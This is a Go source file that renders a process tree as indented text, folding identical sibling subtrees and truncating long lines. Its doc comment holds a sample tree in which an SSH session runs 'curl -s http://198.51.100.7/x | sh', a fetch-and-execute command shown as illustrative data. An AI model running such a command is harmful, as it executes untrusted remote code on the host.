package ptree

import (
	"bufio"
	"cmp"
	"fmt"
	"hash/fnv"
	"io"
	"strconv"
	"strings"
	"time"
)

// TextOptions change how a tree is drawn. The zero value is the default.
type TextOptions struct {
	Width       int            // of a line in runes; more is cut with "…". 0: 160, less than 0: no limit
	MaxChildren int            // drawn of one process, after folding. 0: 100, less than 0: all
	MaxDepth    int            // levels drawn. 0: 40
	MaxLines    int            // drawn in all. 0: 2000, less than 0: all
	NoFold      bool           // draw each of several equal subtrees
	ASCII       bool           // no line-drawing characters
	Location    *time.Location // of times; nil: UTC
}

func (o *TextOptions) defaults() {
	set := func(n *int, def, none int) {
		switch {
		case *n == 0:
			*n = def
		case *n < 0:
			*n = none
		}
	}
	const many = int(^uint(0) >> 1)
	set(&o.Width, 160, many)
	set(&o.MaxChildren, 100, many)
	set(&o.MaxDepth, 40, 40)
	set(&o.MaxLines, 2000, many)
	if o.Location == nil {
		o.Location = time.UTC
	}
}

// WriteText draws the tree, one process a line:
//
//	?[812]
//	└~ sshd[4301] root ses 8 08:26:38  sshd: deploy [priv]
//	   └─ bash[4302] deploy 08:26:38  bash -c curl -s http://198.51.100.7/x | sh
//	      ├─ curl[4310] 08:26:39  curl -s http://198.51.100.7/x
//	      └─ 3× sleep[4311, 4313, 4315] 08:26:40  sleep 1
//
// "~" marks an inferred edge and "?" a process known by its pid alone. User,
// session and the date are written where they differ from the line above in
// the tree. "a ⇒ b" is one process that ran a and then b. Siblings that look
// the same down to their last descendant are folded into one line with their
// number. What does not fit the limits is cut, with its count. Bytes that
// cannot be printed are escaped. The error is that of w.
func (t *Tree) WriteText(w io.Writer, o TextOptions) error {
	o.defaults()
	d := &drawing{w: bufio.NewWriter(w), o: o, size: make([]int32, len(t.procs)+1)}
	if !o.NoFold {
		d.shape = make([]uint64, len(t.procs)+1)
	}
	for i := len(t.procs); i > 0; i-- { // children before parents
		p := t.procs[i-1]
		d.size[i]++
		if p.parent != nil {
			d.size[p.parent.id] += d.size[i]
		}
		if d.shape != nil {
			d.shape[i] = d.shapeOf(p)
		}
	}
	d.all(nil, t.roots, "", 1)
	if d.left > 0 {
		fmt.Fprintf(d.w, "… %s not drawn: the limit is %d lines\n", processes(d.left), o.MaxLines)
	}
	return d.w.Flush()
}

type drawing struct {
	w     *bufio.Writer
	o     TextOptions
	size  []int32  // of the subtree, by ID
	shape []uint64 // equal for subtrees that look the same
	lines int
	left  int // processes not drawn for want of lines
}

func processes(n int) string {
	if n == 1 {
		return "1 process"
	}
	return strconv.Itoa(n) + " processes"
}

// shapeOf hashes what a line shows of p, without pid and time, and its
// children.
func (d *drawing) shapeOf(p *Process) uint64 {
	h := fnv.New64a()
	put := func(s string) { _, _ = io.WriteString(h, s); _, _ = h.Write([]byte{0}) }
	for i := range p.Earlier {
		put(p.Earlier[i].CommandLine())
		put(p.Earlier[i].Exe)
	}
	put(p.CommandLine())
	put(p.Exe)
	put(cmp.Or(p.User, p.UID))
	if !p.opener || p.first != nil {
		put(p.Session) // logins that did nothing else look the same
	}
	put(p.Edge.String())
	for c := p.first; c != nil; c = c.next {
		s := d.shape[c.id]
		_, _ = h.Write([]byte{byte(s), byte(s >> 8), byte(s >> 16), byte(s >> 24), byte(s >> 32), byte(s >> 40), byte(s >> 48), byte(s >> 56)})
	}
	if p.Placeholder && p.first == nil {
		put(strconv.Itoa(p.PID))
	}
	return h.Sum64()
}

// group is siblings that look the same.
type group []*Process

func (d *drawing) groups(siblings []*Process) []group {
	var out []group
	at := make(map[uint64]int)
	for _, p := range siblings {
		if d.shape != nil {
			s := d.shape[p.id]
			if i, ok := at[s]; ok {
				out[i] = append(out[i], p)
				continue
			}
			at[s] = len(out)
		}
		out = append(out, group{p})
	}
	return out
}

// all draws siblings. prefix is what stands left of them.
func (d *drawing) all(parent *Process, siblings []*Process, prefix string, depth int) {
	groups := d.groups(siblings)
	for i, g := range groups {
		if d.lines >= d.o.MaxLines {
			for _, g := range groups[i:] {
				for _, p := range g {
					d.left += int(d.size[p.id])
				}
			}
			return
		}
		if parent != nil && i >= d.o.MaxChildren {
			n := 0
			for _, g := range groups[i:] {
				for _, p := range g {
					n += int(d.size[p.id])
				}
			}
			d.line(prefix+d.branch(true, Observed), "… "+processes(n)+" more")
			return
		}
		p, last := g[0], i == len(groups)-1
		below := prefix
		if parent == nil {
			d.line("", d.describe(nil, g))
		} else {
			d.line(prefix+d.branch(last, p.Edge), d.describe(parent, g))
			below += d.rail(last)
		}
		switch {
		case p.first == nil:
		case depth >= d.o.MaxDepth:
			n := 0
			for _, q := range g {
				n += int(d.size[q.id]) - 1
			}
			d.line(below+d.branch(true, Observed), "… "+processes(n)+" below")
		default:
			children := make([]*Process, 0, p.children)
			for c := p.first; c != nil; c = c.next {
				children = append(children, c)
			}
			d.all(p, children, below, depth+1)
		}
	}
}

func (d *drawing) branch(last bool, e EdgeKind) string {
	s := [...]string{"├─ ", "└─ ", "├~ ", "└~ "}
	if d.o.ASCII {
		s = [...]string{"|- ", "`- ", "|~ ", "`~ "}
	}
	i := 0
	if last {
		i = 1
	}
	if e == Inferred {
		i += 2
	}
	return s[i]
}

func (d *drawing) rail(last bool) string {
	switch {
	case last:
		return "   "
	case d.o.ASCII:
		return "|  "
	}
	return "│  "
}

func (d *drawing) line(prefix, s string) {
	d.lines++
	_, _ = d.w.WriteString(prefix) // errors stay until Flush
	room := max(d.o.Width-len([]rune(prefix)), 20)
	if runes := []rune(s); len(runes) > room {
		s = string(runes[:room-1]) + "…"
	}
	_, _ = d.w.WriteString(s)
	_ = d.w.WriteByte('\n')
}

// maxPids bounds the pids that a folded line names.
const maxPids = 4

func (d *drawing) describe(parent *Process, g group) string {
	p := g[0]
	known := parent // whose user and session stand above
	for known != nil && known.Placeholder && known.UID == "" && known.Session == "" {
		known = known.parent
	}
	var b strings.Builder
	if len(g) > 1 {
		b.WriteString(strconv.Itoa(len(g)) + "× ")
	}
	for i := range p.Earlier {
		if i == 3 && len(p.Earlier) > 4 {
			fmt.Fprintf(&b, "(%d more) ⇒ ", len(p.Earlier)-i)
			break
		}
		b.WriteString(cmp.Or(escape(p.Earlier[i].Name(), 64), "?") + " ⇒ ")
	}
	b.WriteString(cmp.Or(escape(p.Name(), 64), "?") + "[")
	for i, q := range g {
		if i == maxPids {
			b.WriteString(", …")
			break
		}
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(strconv.Itoa(q.PID))
	}
	b.WriteByte(']')
	if parent == nil && p.Host != "" {
		b.WriteString(" on " + escape(p.Host, 64))
	}
	if user := cmp.Or(p.User, p.UID); user != "" && (known == nil || user != cmp.Or(known.User, known.UID)) {
		if p.User == "" {
			user = "uid " + user
		}
		b.WriteString(" " + escape(user, 64))
	}
	if p.Session != "" && (known == nil || p.Session != known.Session) {
		b.WriteString(" ses " + escape(p.Session, 32))
		if last := g[len(g)-1].Session; last != p.Session {
			b.WriteString("…" + escape(last, 32))
		}
	}
	if at := p.Start; !at.IsZero() {
		layout := "15:04:05"
		if parent == nil || !sameDay(at.In(d.o.Location), parent.since().In(d.o.Location)) {
			layout = time.DateTime
		}
		b.WriteString(" " + at.In(d.o.Location).Format(layout))
	}
	if p.EndReason == EndExit && p.ExitCode != nil && *p.ExitCode != 0 {
		fmt.Fprintf(&b, " exit %d", *p.ExitCode)
	}
	if cmd := p.CommandLine(); cmd != "" {
		b.WriteString("  " + escape(cmd, max(0, min(d.o.Width, 4096))))
	}
	return b.String()
}

func sameDay(a, b time.Time) bool {
	return a.YearDay() == b.YearDay() && a.Year() == b.Year()
}
